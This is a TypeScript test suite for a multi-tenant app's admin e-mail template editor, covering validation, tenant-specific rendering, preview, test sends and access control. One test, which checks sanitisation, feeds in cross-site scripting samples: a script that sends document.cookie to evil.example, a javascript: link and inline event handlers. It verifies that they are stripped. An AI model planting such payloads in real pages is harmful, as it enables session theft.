/** @spec TEN-6 */
import { test } from '@japa/runner'
import type { ApiClient } from '@japa/api-client'
import ActivityEvent from '#models/activity_event'
import MailTemplate from '#models/mail_template'
import type Tenant from '#models/tenant'
import type User from '#models/user'
import { tenantContext } from '#tenancy/tenant_context'
import { freshWorld } from '#tests/support/world'
import { maildev } from '#tests/support/maildev'
import { TenantFactory } from '#database/factories/tenant_factory'
import { UserFactory } from '#database/factories/user_factory'
import { fieldErrors } from '#tests/support/api_client_macros'

const PASSWORD_RESET_FR = '/admin/mail-templates/password_reset/fr'

function save(client: ApiClient, tenant: Tenant, user: User, path: string, form: object) {
  return client
    .put(path)
    .forTenant(tenant.slug)
    .loginAs(user)
    .withCsrfToken()
    .header('Referer', `http://${tenant.slug}.localhost${path}`)
    .form(form)
    .redirects(0)
}

function forgotPassword(client: ApiClient, tenant: Tenant, email: string) {
  return client
    .post('/forgot-password')
    .forTenant(tenant.slug)
    .withCsrfToken()
    .form({ email })
    .redirects(0)
}

function stored(tenant: Tenant, name: string, locale: string) {
  return tenantContext.run(tenant.id, () =>
    MailTemplate.query().where('name', name).where('locale', locale).first()
  )
}

function events(tenant: Tenant, type: string) {
  return tenantContext.run(tenant.id, () => ActivityEvent.query().where('type', type))
}

const customFr = {
  subject: 'Nouveau mot de passe chez {{ tenantName }}',
  body: '<p>Salut {{ firstName }} !</p>\n<p><a href="{{ resetUrl }}">Choisir mon mot de passe</a> ({{ validMinutes }} min)</p>',
}

test.group('Tenancy / e-mail templates', (group) => {
  let tenant: Tenant
  let admin: User

  group.each.setup(async () => {
    await freshWorld()
    tenant = await TenantFactory.merge({ name: 'Lessor One', defaultLocale: 'en' }).create()
    admin = await UserFactory.for(tenant)
      .apply('admin')
      .merge({ locale: 'en', email: 'admin@lessor.example' })
      .create()
  })

  test('an admin sees every e-mail per language, and one with its variables', async ({
    client,
    assert,
  }) => {
    const list = await client
      .get('/admin/mail-templates')
      .forTenant(tenant.slug)
      .loginAs(admin)
      .withInertia()
    list.assertInertiaComponent('admin/mail_templates')
    const { templates } = list.inertiaProps as {
      templates: { name: string; languages: { locale: string; customised: boolean }[] }[]
    }
    assert.includeMembers(
      templates.map((template) => template.name),
      ['invitation', 'password_reset', 'email_code', 'documents_published']
    )
    assert.isTrue(
      templates.every((template) => template.languages.every((language) => !language.customised))
    )

    const page = await client
      .get(PASSWORD_RESET_FR)
      .forTenant(tenant.slug)
      .loginAs(admin)
      .withInertia()
    const { editing } = page.inertiaProps as {
      editing: {
        subject: string
        body: string
        customised: boolean
        variables: { name: string; description: string; sample: string | null }[]
      }
    }
    assert.isFalse(editing.customised)
    assert.equal(
      editing.subject,
      'Choisissez un nouveau mot de passe pour le portail de {{ tenantName }}'
    )
    assert.include(editing.body, '{{ resetUrl }}')
    const firstName = editing.variables.find((variable) => variable.name === 'firstName')
    assert.include(firstName?.description, "The recipient's first name")
    assert.equal(firstName?.sample, 'Marie')
    assert.includeMembers(
      editing.variables.map((variable) => variable.name),
      ['resetUrl', 'validMinutes', 'tenantName', 'primaryColor']
    )
  })

  test('a template with an unknown variable is refused and the previous one kept', async ({
    client,
    assert,
  }) => {
    const saved = await save(client, tenant, admin, PASSWORD_RESET_FR, customFr)
    saved.assertStatus(302)
    saved.assertHeader('location', PASSWORD_RESET_FR)
    saved.assertFlashMessage('success', '“Password reset” in French is saved.')

    const refused = await save(client, tenant, admin, PASSWORD_RESET_FR, {
      subject: 'Nouveau mot de passe',
      body: '<p>Salut {{ firstName }}</p>\n<p>Votre IBAN : {{ iban }}</p>',
    })
    refused.assertStatus(302)
    const errors = fieldErrors(refused)
    assert.include(errors.body[0], 'Unknown variable: “iban” (line 2, column 20)')
    assert.include(errors.body[0], 'resetUrl')
    assert.notProperty(errors, 'subject')

    const row = await stored(tenant, 'password_reset', 'fr')
    assert.equal(row?.subject, customFr.subject)
    assert.equal(row?.body, customFr.body)
    assert.lengthOf(await events(tenant, 'mail_template.updated'), 1)
  })

  test('a syntax error is refused with its line and column, in the admin language', async ({
    client,
    assert,
  }) => {
    const french = await UserFactory.for(tenant).apply('admin').merge({ locale: 'fr' }).create()
    const refused = await save(client, tenant, french, PASSWORD_RESET_FR, {
      subject: 'Bonjour {{ firstName',
      body: '<p>Bonjour</p>\n  {% if firstName %}<p>{{ firstName }}</p>',
    })
    const errors = fieldErrors(refused)
    assert.match(errors.subject[0], /^Ligne 1, colonne 9 : une variable n’est pas fermée/)
    assert.equal(errors.body[0], 'Ligne 2, colonne 3 : {% if firstName %} n’est pas fermé')
    assert.isNull(await stored(tenant, 'password_reset', 'fr'))

    const empty = await save(client, tenant, french, PASSWORD_RESET_FR, { subject: '', body: '' })
    assert.properties(fieldErrors(empty), ['subject', 'body'])
    assert.isNull(await stored(tenant, 'password_reset', 'fr'))
  })

  test('hostile HTML is removed on save, and the admin is told', async ({ client, assert }) => {
    const saved = await save(client, tenant, admin, '/admin/mail-templates/invitation/en', {
      subject: 'Welcome to {{ tenantName }}',
      body: [
        '<p onclick="steal()">Hello {{ firstName }}</p>',
        '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
        '<p><a href="javascript:alert(1)">Win a prize</a></p>',
        '<p><a href="{{ activationUrl }}" onmouseover="x()">Activate</a></p>',
      ].join('\n'),
    })
    saved.assertStatus(302)
    assert.include(saved.flashMessages().success, 'was removed')
    const row = await stored(tenant, 'invitation', 'en')
    for (const hostile of ['<script', 'onclick', 'javascript:', 'onmouseover', 'document.cookie']) {
      assert.notInclude(row!.body, hostile)
    }
    assert.include(row!.body, '<p>Hello {{ firstName }}</p>')
    assert.include(row!.body, '<a href="{{ activationUrl }}">Activate</a>')
  })

  test('the tenant wording is used in real e-mails in its language only; reset restores the default', async ({
    client,
    assert,
  }) => {
    const other = await TenantFactory.merge({ name: 'Lessor Two', defaultLocale: 'fr' }).create()
    await UserFactory.for(tenant)
      .merge({ email: 'marie@example.com', locale: 'fr', firstName: 'Marie' })
      .create()
    await UserFactory.for(tenant)
      .merge({ email: 'jan@example.com', locale: 'nl', firstName: 'Jan' })
      .create()
    await UserFactory.for(other)
      .merge({ email: 'luc@example.com', locale: 'fr', firstName: 'Luc' })
      .create()
    const saved = await save(client, tenant, admin, PASSWORD_RESET_FR, customFr)
    saved.assertStatus(302)

    await forgotPassword(client, tenant, 'marie@example.com')
    await forgotPassword(client, tenant, 'jan@example.com')
    await forgotPassword(client, other, 'luc@example.com')

    const [toMarie] = await maildev.waitFor('marie@example.com')
    assert.equal(toMarie.subject, 'Nouveau mot de passe chez Lessor One')
    assert.include(toMarie.text, 'Salut Marie !')
    assert.include(toMarie.html, 'Lessor One')
    const link = new URL(maildev.link(toMarie, '/reset-password/'))
    const page = await client.get(link.pathname).forTenant(tenant.slug).withInertia()
    page.assertInertiaPropsContains({ valid: true })

    const [toJan] = await maildev.waitFor('jan@example.com')
    assert.equal(toJan.subject, 'Kies een nieuw wachtwoord voor het portaal van Lessor One')
    assert.include(toJan.text, 'Hallo Jan,')
    const [toLuc] = await maildev.waitFor('luc@example.com')
    assert.equal(toLuc.subject, 'Choisissez un nouveau mot de passe pour le portail de Lessor Two')

    const reset = await client
      .delete(PASSWORD_RESET_FR)
      .forTenant(tenant.slug)
      .loginAs(admin)
      .withCsrfToken()
      .redirects(0)
    reset.assertStatus(302)
    reset.assertFlashMessage('success', '“Password reset” in French uses the default text again.')
    assert.isNull(await stored(tenant, 'password_reset', 'fr'))
    assert.lengthOf(await events(tenant, 'mail_template.reset'), 1)

    await UserFactory.for(tenant)
      .merge({ email: 'anne@example.com', locale: 'fr', firstName: 'Anne' })
      .create()
    await forgotPassword(client, tenant, 'anne@example.com')
    const [toAnne] = await maildev.waitFor('anne@example.com')
    assert.equal(toAnne.subject, 'Choisissez un nouveau mot de passe pour le portail de Lessor One')
    assert.include(toAnne.text, 'Bonjour Anne,')
  })

  test('the preview fills the unsaved text with sample data in the real layout', async ({
    client,
    assert,
  }) => {
    const preview = await client
      .post('/admin/mail-templates/documents_published/nl/preview')
      .forTenant(tenant.slug)
      .loginAs(admin)
      .withCsrfToken()
      .header('Accept', 'application/json')
      .json({
        subject: '{{ total }} documenten voor {{ firstName }}',
        body: '<ul>{% for document in documents %}<li>{{ document.title }}: {{ document.amount }}</li>{% endfor %}</ul>',
      })
    preview.assertStatus(200)
    const { subject, html } = preview.body() as { subject: string; html: string }
    assert.equal(subject, '3 documenten voor Marie')
    assert.include(html, 'Lease December')
    assert.include(html, '€')
    assert.include(html, 'Lessor One')
    assert.include(html, '<html lang="nl">')
    assert.isNull(await stored(tenant, 'documents_published', 'nl'))

    const refused = await client
      .post('/admin/mail-templates/documents_published/nl/preview')
      .forTenant(tenant.slug)
      .loginAs(admin)
      .withCsrfToken()
      .header('Accept', 'application/json')
      .json({ subject: 'Hi', body: '<p>{{ secret }}</p>' })
    refused.assertStatus(422)
    const body = refused.body() as { errors: { field: string; message: string }[] }
    assert.equal(body.errors[0].field, 'body')
    assert.include(body.errors[0].message, '“secret”')
  })

  test('a test e-mail with sample data reaches the admin, marked as a test', async ({
    client,
    assert,
  }) => {
    const sent = await client
      .post('/admin/mail-templates/invitation/en/test')
      .forTenant(tenant.slug)
      .loginAs(admin)
      .withCsrfToken()
      .header('Referer', `http://${tenant.slug}.localhost/admin/mail-templates/invitation/en`)
      .form({
        subject: 'Join {{ tenantName }}, {{ firstName }}',
        body: '<p>Dear {{ firstName }}, <a href="{{ activationUrl }}">start here</a> before {{ expiresAt }}.</p>',
      })
      .redirects(0)
    sent.assertStatus(302)
    sent.assertFlashMessage('success', 'A test e-mail is on its way to admin@lessor.example.')
    const [mail] = await maildev.waitFor('admin@lessor.example')
    assert.equal(mail.subject, '[TEST] Join Lessor One, Marie')
    assert.include(mail.text, 'Dear Marie, start here')
    assert.include(mail.html, '/activate/sample-link')
    assert.isNull(await stored(tenant, 'invitation', 'en'))
  })

  test('staff and customers cannot see or change the templates', async ({ client, assert }) => {
    const staff = await UserFactory.for(tenant).apply('staff').create()
    const customer = await UserFactory.for(tenant).create()
    for (const user of [staff, customer]) {
      const page = await client
        .get('/admin/mail-templates')
        .forTenant(tenant.slug)
        .loginAs(user)
        .redirects(0)
      page.assertStatus(403)
      const put = await save(client, tenant, user, PASSWORD_RESET_FR, customFr)
      put.assertStatus(403)
      const testSend = await client
        .post('/admin/mail-templates/invitation/en/test')
        .forTenant(tenant.slug)
        .loginAs(user)
        .withCsrfToken()
        .form(customFr)
        .redirects(0)
      testSend.assertStatus(403)
    }
    assert.isNull(await stored(tenant, 'password_reset', 'fr'))

    const guest = await client.get('/admin/mail-templates').forTenant(tenant.slug).redirects(0)
    guest.assertHeader('location', '/login')
    const unknown = await client
      .get('/admin/mail-templates/no_such_mail/en')
      .forTenant(tenant.slug)
      .loginAs(admin)
      .redirects(0)
    unknown.assertStatus(404)
  })
})
